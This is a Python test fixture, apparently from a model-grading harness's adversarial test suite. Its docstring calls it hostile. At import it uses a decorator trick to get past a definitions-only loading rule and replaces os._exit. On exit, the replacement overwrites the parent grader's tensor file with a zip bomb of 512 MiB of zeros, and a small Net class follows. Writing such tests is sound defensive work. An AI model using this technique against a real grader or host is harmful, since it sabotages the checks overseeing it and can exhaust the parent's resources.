"""Hostile: a zip bomb for the parent. os._exit, which the model worker calls last of all, is replaced by a
function that turns the worker's tensor file into a zip archive holding one more member: a float32 array of
512 MiB of zeros, deflated to about half a megabyte (a real attack would declare 100 GiB). The parent reads
the tensor file to count parameters.

Expected: the parent never inflates it (arrays come only from safetensors, which this is not), so its memory
does not grow by the bomb; the run ends as a clean graded error.
"""
import os
import zipfile
from pathlib import Path

import numpy.lib.format as npy_format
import torch.nn as nn
import torch.nn.functional as F

from grader import protocol as P

BOMB_BYTES = 512 << 20
_real_exit = os._exit


def _exit(code):
    try:
        with zipfile.ZipFile(Path(os.getcwd()).parent / P.TENSORS, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
            with archive.open("bomb.npy", "w", force_zip64=True) as member:
                npy_format.write_array_header_1_0(member, {"descr": "<f4", "fortran_order": False, "shape": (BOMB_BYTES // 4,)})
                zeros = bytes(16 << 20)
                for _ in range(BOMB_BYTES // len(zeros)):
                    member.write(zeros)
    finally:
        _real_exit(code)


@lambda run: run()  # runs at import: the loading rule keeps definitions, and a decorator is part of one
def _at_import():
    os._exit = _exit


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv = nn.Conv2d(1, 8, 3, padding=1)
        self.bn = nn.BatchNorm2d(8)
        self.drop = nn.Dropout(0.1)
        self.head = nn.Conv2d(8, 10, 1)

    def forward(self, x):
        x = self.drop(F.relu(self.bn(self.conv(x))))
        return self.head(x).mean(dim=(2, 3))
